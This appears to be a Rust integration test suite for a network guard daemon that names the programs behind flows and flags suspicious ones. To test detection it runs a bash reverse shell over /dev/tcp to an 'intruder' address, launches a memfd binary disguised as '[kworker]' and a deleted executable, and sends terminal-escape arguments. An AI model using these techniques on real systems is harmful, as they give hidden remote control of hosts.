//! Who a flow belongs to, what it was asked as, and its first bytes: by real programs, resolvers and readers of captures.

use std::{
    collections::HashSet,
    fs,
    os::unix::fs::PermissionsExt,
    path::{Path, PathBuf},
    process::{Command, Stdio},
    time::{Duration, Instant},
};

use guard_tests::{
    echo::Echo,
    flows::PASSES,
    guard::Guard,
    new_world,
    process::{Process, run},
    servers::{dnsmasq, nginx},
};
use serde_json::Value;

/// Short runs that are tried; the machine that measures sets it to 10,000.
const RUNS: &str = "GUARD_WHO_RUNS";

const POLICY: &str = r#"
version: 1
name: who
mode: enforce
groups:
  intruders: [203.0.113.9]
inbound:
  - { name: web, from: any, services: tcp/8080 }
outbound:
  - { name: resolver, to: 198.51.100.7, services: [dns, tcp/8080] }
  - { name: intruder, to: intruders, services: tcp/9000 }
"#;

fn programs_named(records: &[Value], name: &str) -> usize {
    let is = |record: &&Value| record["guard"]["who"]["exe"].as_str().is_some_and(|exe| exe.ends_with(name));
    records.iter().filter(is).count()
}

#[test]
fn short_lived_programs_are_named() {
    let Some(world) = new_world("netns_who short_lived_programs") else { return };
    let runs: usize = std::env::var(RUNS).ok().and_then(|runs| runs.parse().ok()).unwrap_or(2_000);
    let _web = nginx(&world.responder, world.dir(), 8080).unwrap();
    let guard = Guard::start(&world, POLICY).unwrap();
    // Nothing that the kernel has not is a reason to name less.
    let status = guard.status().unwrap();
    assert_eq!(status["daemon"]["notices"], serde_json::json!([]), "{status:#}");
    let script = format!(
        "seq {runs} | xargs -P 50 -I N curl -s -o /dev/null --noproxy '*' --max-time 20 http://198.51.100.7:8080/N"
    );
    let began = Instant::now();
    let ended = run(world.server.command("sh").args(["-c", &script]), Duration::from_secs(600)).unwrap();
    assert!(ended.good(), "{}", ended.text());
    let took = began.elapsed();

    // Every flow has a record; of those, who is named in full.
    let begins = || -> Vec<Value> {
        let records = guard.records().unwrap();
        records.into_iter().filter(|r| r["guard"]["event"] == "begin" && r["dest_port"] == 8080).collect()
    };
    let deadline = Instant::now() + Duration::from_secs(30);
    while begins().len() < runs && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(200));
    }
    let records = begins();
    assert!(records.len() >= runs, "{} of {runs} flows were recorded", records.len());
    let mut asked = HashSet::new();
    let mut unnamed = Vec::new();
    for record in &records {
        let who = &record["guard"]["who"];
        let url = who["args"].as_array().and_then(|args| args.last()).and_then(Value::as_str).unwrap_or_default();
        let parent = who["parents"][0]["exe"].as_str().unwrap_or_default();
        let named = who["exe"].as_str().is_some_and(|exe| exe.ends_with("/curl"))
            && url.starts_with("http://198.51.100.7:8080/")
            && parent.ends_with("/xargs")
            && who["user"] == "root"
            && who["found_by"] == "socket";
        if named {
            asked.insert(url.to_owned());
        } else {
            unnamed.push(record);
        }
    }
    println!(
        "{} of {} named in full, {} of them different runs, in {took:?}",
        records.len() - unnamed.len(),
        records.len(),
        asked.len()
    );
    let most = records.len() / 1000;
    assert!(unnamed.len() <= most, "{} are not named, the first: {:#}", unnamed.len(), unnamed[0]);
    // Each is named as itself, not as whichever had its number before or after.
    assert!(asked.len() + most >= runs, "{} different runs", asked.len());
    let status = guard.status().unwrap();
    assert_eq!(status["lost"]["events"], 0, "{status:#}");
}

/// A program of the test's own, copied to where it may look odd.
fn copied(to: &Path) -> PathBuf {
    let curl = run(Command::new("sh").args(["-c", "command -v curl"]), PASSES).unwrap();
    fs::copy(fs::canonicalize(curl.stdout.trim()).unwrap(), to).unwrap();
    fs::set_permissions(to, fs::Permissions::from_mode(0o755)).unwrap();
    to.to_owned()
}

fn unusual(guard: &Guard, wanted: impl Fn(&Value) -> bool) -> Vec<String> {
    let records = guard.wait_records(|record| record["guard"]["event"] == "begin" && wanted(&record["guard"]["who"]));
    let who = records.unwrap()[0]["guard"]["who"].clone();
    who["unusual"].as_array().into_iter().flatten().map(|word| word.as_str().unwrap().to_owned()).collect()
}

#[test]
fn unusual_programs_are_told_as_such() {
    let Some(world) = new_world("netns_who unusual_programs") else { return };
    let _web = nginx(&world.responder, world.dir(), 8080).unwrap();
    let guard = Guard::start(&world, POLICY).unwrap();
    let fetch = |program: &str, mark: &str| {
        let mut command = world.server.command(program);
        command.args(["-s", "-o", "/dev/null", "--noproxy", "*", "--max-time", "10"]);
        command.arg(format!("http://198.51.100.7:8080/{mark}"));
        command
    };
    let marked = |mark: &'static str| {
        move |who: &Value| {
            who["args"]
                .as_array()
                .is_some_and(|args| args.iter().any(|a| a.as_str().is_some_and(|a| a.ends_with(mark))))
        }
    };

    assert!(run(&mut fetch("curl", "usual"), PASSES * 3).unwrap().good());
    assert_eq!(unusual(&guard, marked("/usual")), [""; 0]);

    let shm = tempfile::tempdir_in("/dev/shm").unwrap();
    let exe = copied(&shm.path().join("updater"));
    assert!(run(&mut fetch(exe.to_str().unwrap(), "shm"), PASSES * 3).unwrap().good());
    assert_eq!(unusual(&guard, marked("/shm")), ["world_writable_place"]);

    // Gone before it starts: run through a descriptor.
    let exe = copied(&shm.path().join("deleted"));
    let shell = format!(
        "exec 9<{0}; rm {0}; exec /proc/self/fd/9 -s -o /dev/null --noproxy '*' --max-time 10 http://198.51.100.7:8080/deleted",
        exe.display()
    );
    assert!(run(world.server.command("bash").args(["-c", &shell]), PASSES * 3).unwrap().good());
    assert!(unusual(&guard, marked("/deleted")).contains(&"deleted_exe".to_owned()));

    // From memory.
    let python = format!(
        "import os\nf=os.memfd_create('kworker/u9')\nos.write(f,open('{}','rb').read())\n\
         os.execve(f,['[kworker]','-s','-o','/dev/null','--noproxy','*','--max-time','10','http://198.51.100.7:8080/memfd'],os.environ)",
        copied(&shm.path().join("source")).display()
    );
    assert!(run(world.server.command("python3").args(["-c", &python]), PASSES * 3).unwrap().good());
    assert_eq!(unusual(&guard, marked("/memfd")), ["memfd"]);

    // Arguments that would steer a terminal, and more of them than is kept.
    let long = "x".repeat(100_000);
    let mut hostile = fetch("curl", "hostile");
    hostile.args(["-A", "\u{1b}]0;owned\u{7}\u{202e}", "-e", &long]);
    // A server that refuses so long a line has been asked all the same.
    let _ = run(&mut hostile, PASSES * 3).unwrap();
    let records = guard.wait_records(|record| marked("/hostile")(&record["guard"]["who"])).unwrap();
    assert_eq!(records[0]["guard"]["who"]["args_cut"], true);
    let shown = guard.ask("flows", &[]).unwrap();
    assert!(!shown.stdout.contains('\u{1b}') && !shown.stdout.contains('\u{202e}'));
}

#[test]
fn a_shell_at_the_end_of_a_connection_is_told_as_such() {
    let Some(world) = new_world("netns_who a_shell_at_the_end") else { return };
    let listener = world.intruder.run(|| std::net::TcpListener::bind("203.0.113.9:9000").unwrap());
    let guard = Guard::start(&world, POLICY).unwrap();
    let shell = "exec bash -i >& /dev/tcp/203.0.113.9/9000 0>&1";
    let mut command = world.server.command("bash");
    command.args(["-c", shell]).stdin(Stdio::null());
    let shell = Process::spawn(&mut command).unwrap();
    let (stream, _) = listener.accept().unwrap();
    std::thread::sleep(Duration::from_millis(1_000));
    drop(stream);
    drop(shell);
    let ended = guard.wait_records(|record| record["guard"]["event"] == "end" && record["dest_port"] == 9000).unwrap();
    let who = &ended[0]["guard"]["who"];
    assert!(who["exe"].as_str().unwrap().ends_with("bash"), "{who:#}");
    assert_eq!(who["unusual"], serde_json::json!(["socket_on_standard_streams"]), "{who:#}");
    assert_eq!(ended[0]["guard"]["remote_group"], "group intruders");
}

#[test]
fn whoever_listens_is_named_and_a_port_without_a_listener_is_told() {
    let Some(world) = new_world("netns_who whoever_listens") else { return };
    let web = nginx(&world.server, world.dir(), 8080).unwrap();
    let policy = POLICY.replace("services: tcp/8080 }\noutbound", "services: [tcp/8080, tcp/8081] }\noutbound");
    let guard = Guard::start(&world, &policy).unwrap();
    guard_tests::servers::curl(&world.client, world.server.v4.into(), 8080, PASSES * 3).unwrap();
    let refused = std::net::SocketAddr::from((world.server.v4, 8081));
    assert!(guard_tests::echo::connect(&world.client, refused, PASSES).is_err());

    let served = guard.wait_records(|r| r["guard"]["event"] == "begin" && r["dest_port"] == 8080).unwrap();
    let who = &served[0]["guard"]["who"];
    assert_eq!((&who["found_by"], &served[0]["guard"]["listening"]), (&"accept".into(), &true.into()), "{who:#}");
    assert_eq!(who["pid"], web.pid(), "{who:#}");
    // Of a picture of the sockets that is older than the flow nothing is said: then its end says it.
    let unserved = guard.wait_records(|r| r["guard"]["listening"] == false && r["dest_port"] == 8081).unwrap();
    assert_eq!(unserved[0]["guard"].get("who"), None);
    assert_eq!(programs_named(&served, "/nginx"), served.len());
}

#[test]
fn remotes_have_the_names_that_they_were_asked_as() {
    let Some(world) = new_world("netns_who remotes_have_the_names") else { return };
    let _resolver = dnsmasq(&world.responder, world.dir(), &["--address=/example.org/203.0.113.9"]).unwrap();
    let _echo = Echo::tcp(&world.intruder, world.intruder.v4.into(), 9001).unwrap();
    let mut guard = Guard::start(&world, POLICY).unwrap();
    let dig = |name: &str| {
        let mut command = world.server.command("dig");
        command.args(["+short", "+tries=1", "+time=5", "@198.51.100.7", name, "A"]);
        run(&mut command, PASSES * 5).unwrap()
    };
    for name in ["www.example.org", "api.example.org"] {
        assert_eq!(dig(name).stdout.trim(), "203.0.113.9");
    }
    // Denied, and so the sign of it has to say whom it asked for.
    let to = std::net::SocketAddr::from((world.intruder.v4, 9001));
    let said = guard_tests::agent::ask(&world.server, &["connect", "tcp", &to.to_string()]).unwrap();
    assert!(said.refused(), "{said:?}");
    let records = guard.wait_records(|record| record["dest_port"] == 9001).unwrap();
    let flow = &records[0]["guard"];
    assert_eq!(flow["names"], serde_json::json!(["api.example.org", "www.example.org"]), "{flow:#}");
    assert_eq!(flow["remote_group"], "names in example.org");
    // A program here that asks a server of its own choice is told by it that this one is a mirror which everybody knows: that
    // is no name, though the policy lets it ask.
    let open = format!("{POLICY}  - {{ name: anybody, to: any, services: dns }}\n");
    assert!(guard.reload(&open, &[]).unwrap().good());
    let own = world.dir().join("own");
    std::fs::create_dir(&own).unwrap();
    let _own = dnsmasq(&world.client, &own, &["--address=/mirror.test/192.0.2.20"]).unwrap();
    let mut command = world.server.command("dig");
    command.args(["+short", "+tries=1", "+time=5", "@192.0.2.20", "mirror.test", "A"]);
    assert_eq!(run(&mut command, PASSES * 5).unwrap().stdout.trim(), "192.0.2.20");
    let to = std::net::SocketAddr::from((world.client.v4, 9002));
    assert!(guard_tests::agent::ask(&world.server, &["connect", "tcp", &to.to_string()]).unwrap().refused());
    let records = guard.wait_records(|record| record["dest_port"] == 9002).unwrap();
    assert!(records[0]["guard"]["names"].is_null(), "{:#}", records[0]);
    assert_eq!(records[0]["guard"]["remote_group"], "192.0.2.0/24");
    assert!(guard.status().unwrap()["daemon"]["dns"]["unlisted"].as_u64() >= Some(1));

    // A new daemon knows what the one before it knew.
    let store = guard.state_dir().join(guard::store::FILE);
    let deadline = std::time::Instant::now() + PASSES * 4;
    while guard::store::Reader::open(&store).unwrap().unwrap().asked_as().unwrap().len() < 2 {
        assert!(std::time::Instant::now() < deadline, "the names are not in the store");
        std::thread::sleep(Duration::from_millis(200));
    }
    guard.kill().unwrap();
    guard.run(&[]).unwrap();
    let to = std::net::SocketAddr::from((world.intruder.v4, 9003));
    assert!(guard_tests::agent::ask(&world.server, &["connect", "tcp", &to.to_string()]).unwrap().refused());
    let records = guard.wait_records(|record| record["dest_port"] == 9003).unwrap();
    let names = serde_json::json!(["api.example.org", "www.example.org"]);
    assert_eq!(records[0]["guard"]["names"], names, "{:#}", records[0]);
    // Both answers on one flow are heard: A and AAAA of one socket, as the C library asks.
    let both =
        run(world.server.command("dig").args(["+short", "@198.51.100.7", "a.test", "A", "b.test", "A"]), PASSES * 5);
    assert!(both.unwrap().good());
}

#[test]
fn first_bytes_of_what_is_denied_are_in_a_capture() {
    let Some(world) = new_world("netns_who first_bytes") else { return };
    let guard = Guard::start(&world, POLICY).unwrap();
    let to = std::net::SocketAddr::from((world.server.v4, 4444));
    assert!(guard_tests::echo::udp_reaches(&world.intruder, to, PASSES / 2).is_err());
    guard.wait_records(|record| record["dest_port"] == 4444).unwrap();
    let path = guard.state_dir().join("flagged-in.pcap");
    std::thread::sleep(Duration::from_secs(1));
    for reader in [&["tcpdump", "-nn", "-r"][..], &["tshark", "-n", "-r"]] {
        let ended = run(Command::new(reader[0]).args(&reader[1..]).arg(&path), Duration::from_secs(30)).unwrap();
        assert!(ended.good() && ended.stdout.contains("4444"), "{}: {}", reader[0], ended.text());
        assert!(ended.stdout.contains("203.0.113.9"), "{}", ended.text());
    }
}
